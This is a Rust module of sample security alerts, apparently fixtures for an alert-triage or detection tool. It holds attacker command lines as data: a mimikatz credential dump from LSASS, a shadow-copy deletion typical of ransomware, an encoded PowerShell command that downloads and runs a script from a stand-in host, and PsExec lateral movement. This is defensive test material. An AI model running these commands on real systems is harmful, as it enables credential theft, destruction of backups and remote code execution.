//! The stories of one alert.

use super::Sighting;

pub(super) const MIMIKATZ: Sighting = Sighting {
    title: "Credential dumping from LSASS",
    severity: 90,
    tactic: "Credential Access",
    technique: "T1003.001",
    host: "WS-FINANCE-07",
    user: r"CONTOSO\j.moreau",
    image: "mimikatz.exe",
    path: r"C:\Users\j.moreau\AppData\Local\Temp\mimikatz.exe",
    command_line: r#"mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit"#,
    parent: "cmd.exe",
};

pub(super) const RANSOMWARE: Sighting = Sighting {
    title: "Shadow copies deleted by an unknown program",
    severity: 95,
    tactic: "Impact",
    technique: "T1490",
    host: "FS-ARCHIVE-02",
    user: r"CONTOSO\svc-share",
    image: "vssadmin.exe",
    path: r"C:\Windows\System32\vssadmin.exe",
    command_line: "vssadmin.exe delete shadows /all /quiet",
    parent: "lockfiles.exe",
};

/// The argument is UTF-16 in base64: it fetches a script from 203.0.113.7 and runs it.
pub(super) const POWERSHELL_ENCODED: Sighting = Sighting {
    title: "Encoded PowerShell started by an Office document",
    severity: 70,
    tactic: "Execution",
    technique: "T1059.001",
    host: "WS-SALES-11",
    user: r"CONTOSO\a.lindqvist",
    image: "powershell.exe",
    path: r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    command_line: "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand \
        SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUA\
        bgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8A\
        MgAwADMALgAwAC4AMQAxADMALgA3AC8AcwB0AGEAZwBlAC4AcABzADEAJwApAA==",
    parent: "WINWORD.EXE",
};

pub(super) const PSEXEC: Sighting = Sighting {
    title: "Remote service execution with PsExec",
    severity: 70,
    tactic: "Lateral Movement",
    technique: "T1021.002",
    host: "SRV-APP-03",
    user: r"CONTOSO\adm-kessler",
    image: "PsExec.exe",
    path: r"C:\Tools\PsExec.exe",
    command_line: r"PsExec.exe \\SRV-DB-01 -accepteula -s -d cmd.exe /c whoami /all",
    parent: "cmd.exe",
};

pub(super) const BACKUP: Sighting = Sighting {
    title: "Many files read in a short time",
    severity: 25,
    tactic: "Collection",
    technique: "T1119",
    host: "FS-ARCHIVE-02",
    user: r"CONTOSO\svc-backup",
    image: "robocopy.exe",
    path: r"C:\Windows\System32\robocopy.exe",
    command_line: r"robocopy.exe D:\Shares \\backup01\nightly /MIR /Z /R:2 /W:5 /LOG:C:\Logs\nightly.log",
    parent: "taskeng.exe",
};
